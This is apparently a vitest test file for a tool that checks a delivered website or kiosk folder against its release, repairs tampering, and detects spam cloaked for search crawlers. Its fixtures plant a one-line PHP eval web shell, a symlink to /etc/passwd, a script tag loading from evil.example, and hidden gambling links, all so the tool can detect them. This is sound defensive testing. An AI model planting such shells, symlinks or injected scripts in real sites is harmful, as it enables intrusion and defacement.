/** verify: a delivered site compared with its release, in a folder and over HTTP, and repaired. */
import { createServer } from 'node:http'
import type { Server } from 'node:http'
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { GongkaiError } from '@gongkai/core'
import { CRAWLER_USER_AGENT, repairFolder, verifyFolder, verifyUrl } from '../src/verify.js'
import { DELIVERED_AT, SITE, deliveredSite } from './fixture.js'

const cleanup: string[] = []
afterEach(() => {
  for (const d of cleanup.splice(0)) rmSync(d, { recursive: true, force: true })
})

async function site() {
  const s = await deliveredSite()
  cleanup.push(dirname(s.project))
  return s
}

describe('verifyFolder', () => {
  it('finds nothing in a folder as delivered, and names the release and when it was delivered', async () => {
    const { project, target, release } = await site()
    const r = await verifyFolder(project, 'website')
    expect(r).toMatchObject({ channel: 'website', release: release.manifest.id, manifestHash: release.manifestHash, deliveredAt: DELIVERED_AT, target, mode: 'folder', checked: 4, listsAdded: true })
    expect(r.differences).toEqual([])
  })

  it('names a changed, an added and a removed file, and repair restores the release and removes the stray', async () => {
    const { project, target } = await site()
    writeFileSync(join(target, 'p/hjxx-001.html'), SITE['p/hjxx-001.html']!.text.replace('正文', '正文<a href="https://bet.example">澳门博彩</a>'))
    mkdirSync(join(target, 'tmp'))
    writeFileSync(join(target, 'tmp/shell.php'), '<?php eval($_POST[1]);')
    unlinkSync(join(target, 'assets/site.css'))
    symlinkSync('/etc/passwd', join(target, 'passwd.txt'))

    const r = await verifyFolder(project, 'website')
    expect(r.differences.map((d) => `${d.kind} ${d.path}`)).toEqual(['removed assets/site.css', 'changed p/hjxx-001.html', 'added passwd.txt', 'added tmp/shell.php'])
    expect(r.differences[1]?.actual?.size).toBeGreaterThan(r.differences[1]?.expected?.size ?? Infinity)
    expect(r.differences[2]?.symlink).toBe('/etc/passwd')

    const repaired = await repairFolder(project, 'website')
    expect(repaired.restored).toBe(4)
    expect(repaired.after.differences).toEqual([])
    for (const [path, f] of Object.entries(SITE)) expect(readFileSync(join(target, path), 'utf8')).toBe(f.text)
    expect(existsSync(join(target, 'tmp/shell.php'))).toBe(false)
    expect(existsSync(join(target, 'passwd.txt'))).toBe(false)
    expect((await verifyFolder(project, 'website')).differences).toEqual([])
    // No staged or set-aside folder is left beside the target.
    const { readdirSync } = await import('node:fs')
    expect(readdirSync(dirname(target))).toEqual(['gk'])
  })

  it('finds every file removed when the target folder is gone, and repair puts it back', async () => {
    const { project, target } = await site()
    rmSync(target, { recursive: true })
    expect((await verifyFolder(project, 'website')).differences.map((d) => d.kind)).toEqual(['removed', 'removed', 'removed', 'removed'])
    expect((await repairFolder(project, 'website')).after.differences).toEqual([])
  })

  it('verifies the kiosk the same way: its player folder against its last delivered release', async () => {
    const s = await deliveredSite('kiosk')
    cleanup.push(dirname(s.project))
    expect((await verifyFolder(s.project, 'kiosk')).differences).toEqual([])
    writeFileSync(join(s.target, 'index.html'), '<script src="https://evil.example/x.js"></script>')
    expect((await verifyFolder(s.project, 'kiosk')).differences.map((d) => `${d.kind} ${d.path}`)).toEqual(['changed index.html'])
    await expect(verifyFolder(s.project, 'website')).rejects.toMatchObject({ code: 'verify/not-delivered' })
    expect((await repairFolder(s.project, 'kiosk')).after.differences).toEqual([])
  })

  it('refuses a channel never delivered, with a code from the catalogue', async () => {
    const { project } = await site()
    await expect(verifyFolder(project, 'kiosk')).rejects.toMatchObject({ code: 'verify/not-delivered' })
    await expect(verifyFolder(project, 'kiosk')).rejects.toBeInstanceOf(GongkaiError)
  })
})

describe('verifyUrl', () => {
  let server: Server | undefined
  afterEach(async () => {
    await new Promise<void>((done) => (server === undefined ? done() : server.close(() => done())))
    server = undefined
  })

  /** Serves the target folder on 127.0.0.1; pages get a gambling link when a crawler asks. */
  async function serve(target: string, spam: boolean): Promise<{ url: string; agents: string[] }> {
    const agents: string[] = []
    server = createServer((req, res) => {
      agents.push(req.headers['user-agent'] ?? '')
      const path = decodeURIComponent((req.url ?? '/').split('?')[0] ?? '/').replace(/^\/gk\//, '') || 'index.html'
      const file = join(target, ...path.split('/'))
      if (!existsSync(file)) {
        res.writeHead(404).end('not found')
        return
      }
      let body = readFileSync(file)
      if (spam && /Baiduspider/.test(req.headers['user-agent'] ?? '') && path.endsWith('.html'))
        body = Buffer.from(body.toString('utf8').replace('</html>', '<div style="display:none"><a href="https://bet.example">澳门博彩</a></div></html>'))
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body)
    })
    await new Promise<void>((done) => server!.listen(0, '127.0.0.1', done))
    const address = server.address()
    return { url: `http://127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 0}/gk/`, agents }
  }

  it('finds nothing when both agents get the release, fetching each file once per agent', async () => {
    const { project, target } = await site()
    const { url, agents } = await serve(target, false)
    const r = await verifyUrl(project, 'website', url)
    expect(r).toMatchObject({ mode: 'http', checked: 4, listsAdded: false, differences: [] })
    // Each file once per agent, and the home page also by the folder's own address.
    expect(agents).toHaveLength(10)
    expect(agents.filter((a) => a === CRAWLER_USER_AGENT)).toHaveLength(5)
  })

  it('catches spam shown only to the search crawler, and a file gone from the site', async () => {
    const { project, target } = await site()
    unlinkSync(join(target, 'assets/site.css'))
    const { url } = await serve(target, true)
    const r = await verifyUrl(project, 'website', url)
    expect(r.differences.map((d) => `${d.kind} ${d.path} ${(d.agents ?? []).join('+')}${d.url === undefined ? '' : ` ${d.url}`}`)).toEqual([
      'removed assets/site.css browser+crawler',
      'changed index.html crawler',
      `changed index.html crawler ${url}`,
      'changed p/hjxx-001.html crawler',
      'changed p/hjxx-002.html crawler',
    ])
    expect(r.differences[0]?.status).toBe(404)
  })

  it('says in Chinese when the site cannot be reached', async () => {
    const { project } = await site()
    await expect(verifyUrl(project, 'website', 'http://127.0.0.1:9/gk/', { timeoutMs: 2000 })).rejects.toMatchObject({
      code: 'verify/fetch-failed',
      message: expect.stringContaining('无法取回 http://127.0.0.1:9/gk/'),
    })
    await expect(verifyUrl(project, 'website', 'ftp://example/')).rejects.toMatchObject({ code: 'verify/no-target' })
  })
})
